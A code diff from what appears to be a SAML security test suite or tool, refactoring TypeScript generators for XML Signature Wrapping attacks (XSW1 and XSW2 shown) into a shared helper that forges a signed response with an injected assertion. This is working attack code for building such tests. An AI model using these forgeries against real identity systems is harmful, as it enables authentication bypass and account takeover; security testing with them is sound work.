@@ -38,32 +38,33 @@ function evilInPlace(xml: string) {
   return { doc, evil, assertion };
 }
 
+/**
+ * An evil copy of the signed response (its own ID, no signature, the evil assertion in place of
+ * the original one), the original response and a copy of its signature, for the caller to wrap.
+ */
+function evilResponse(xml: string) {
+  const doc = dom(xml);
+  const original = doc.documentElement;
+  const evil = original.cloneNode(true) as Element;
+  evil.setAttribute('ID', '_evilresponse');
+  const evilSig = first(evil, DS, 'Signature');
+  evilSig?.parentNode?.removeChild(evilSig);
+  evil.replaceChild(evilAssertion(doc), first(evil, SAML, 'Assertion'));
+  const sig = first(original, DS, 'Signature').cloneNode(true) as Element;
+  return { original, evil, sig };
+}
+
 /** XML signature wrapping, XSW1–8 as SAMLRaider generates them, from one valid signed response. */
 export const XSW: Record<string, (xml: string) => string> = {
   XSW1(xml) {
     // Response signature: an evil response whose signature holds the original signed response.
-    const doc = dom(xml);
-    const original = doc.documentElement;
-    const evil = original.cloneNode(true) as Element;
-    evil.setAttribute('ID', '_evilresponse');
-    const evilSig = first(evil, DS, 'Signature');
-    evilSig?.parentNode?.removeChild(evilSig);
-    const oldAssertion = first(evil, SAML, 'Assertion');
-    evil.replaceChild(evilAssertion(doc), oldAssertion);
-    const sig = first(original, DS, 'Signature').cloneNode(true) as Element;
+    const { original, evil, sig } = evilResponse(xml);
     sig.appendChild(original.cloneNode(true));
     evil.insertBefore(sig, evil.childNodes[1] ?? null);
     return text(dom(new XMLSerializer().serializeToString(evil)));
   },
   XSW2(xml) {
-    const doc = dom(xml);
-    const original = doc.documentElement;
-    const evil = original.cloneNode(true) as Element;
-    evil.setAttribute('ID', '_evilresponse');
-    const evilSig = first(evil, DS, 'Signature');
-    evilSig?.parentNode?.removeChild(evilSig);
-    evil.replaceChild(evilAssertion(doc), first(evil, SAML, 'Assertion'));
-    const sig = first(original, DS, 'Signature').cloneNode(true) as Element;
+    const { original, evil, sig } = evilResponse(xml);
     evil.insertBefore(original.cloneNode(true), evil.childNodes[1] ?? null);
     evil.insertBefore(sig, evil.childNodes[2] ?? null);
     return new XMLSerializer().serializeToString(evil);
